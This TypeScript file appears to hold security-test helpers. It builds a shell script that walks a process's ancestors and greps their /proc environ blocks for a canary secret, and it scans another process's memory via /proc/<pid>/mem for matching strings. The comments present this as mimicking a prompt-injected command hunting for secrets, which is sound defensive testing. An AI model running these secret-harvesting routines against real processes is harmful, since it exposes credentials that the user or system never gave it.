import { closeSync, openSync, readFileSync, readSync } from 'node:fs';
/**
 * A command that walks from its parent up through every ancestor (/proc/<pid>/status PPid) and prints, for each,
 * `== <pid> <comm> [<cmdline>] entries=<non-empty environ entries>`, then the entries of its /proc/<pid>/environ
 * that hold `needle` (a canary's prefix: the full blocks of a test runner's ancestors would be cut by the tool's
 * output limit). What a prompt-injected command would do to find a secret it was not given.
 */
export function ancestorEnvironWalk(needle: string): string {
  return [
    'pid=$PPID; hops=0',
    'while [ -n "$pid" ] && [ "$pid" -gt 0 ] && [ $hops -lt 64 ]; do',
    '  echo "== $pid $(cat /proc/$pid/comm 2>/dev/null) [$(tr "\\0" " " < /proc/$pid/cmdline 2>/dev/null)] entries=$(tr "\\0" "\\n" < /proc/$pid/environ 2>/dev/null | grep -c .)"',
    `  tr "\\0" "\\n" < /proc/$pid/environ 2>/dev/null | grep -a -- '${needle}' || true`,
    "  pid=$(awk '/^PPid:/ { print $2 }' /proc/$pid/status 2>/dev/null); hops=$((hops + 1))",
    'done',
  ].join('\n');
}

/** The walk's ancestors as printed: pid, name, command line and how many entries its environ still shows. */
export function walkedAncestors(output: string): Array<{ pid: number; comm: string; cmdline: string; entries: number }> {
  return [...output.matchAll(/== (\d+) (.*?) \[(.*?)\] entries=(\d+)/g)].map((m) => ({ pid: Number(m[1]), comm: m[2]!, cmdline: m[3]!, entries: Number(m[4]) }));
}

/**
 * Every distinct match of `pattern` (global) in the writable memory of process `pid`, read through /proc/<pid>/mem:
 * what remains readable of a process's secrets once its environ block is cleared. The caller must be allowed to
 * trace `pid` (Yama's ptrace_scope 1 allows an ancestor, 0 or no Yama any process of the same user).
 */
export function scanMemory(pid: number, pattern: RegExp): string[] {
  const found = new Set<string>();
  const fd = openSync(`/proc/${pid}/mem`, 'r');
  try {
    for (const line of readFileSync(`/proc/${pid}/maps`, 'utf8').split('\n')) {
      const [range, perms] = line.trim().split(/\s+/);
      if (!range || !perms?.startsWith('rw')) continue;
      const [start, end] = range.split('-').map((hex) => parseInt(hex, 16)) as [number, number];
      if (end - start > 256 * 1024 * 1024) continue;
      const buffer = Buffer.alloc(end - start);
      try {
        readSync(fd, buffer, 0, buffer.length, start);
      } catch {
        continue; // a mapping that went away or cannot be read (a guard page)
      }
      for (const match of buffer.toString('latin1').matchAll(pattern)) found.add(match[0]);
    }
  } finally {
    closeSync(fd);
  }
  return [...found];
}
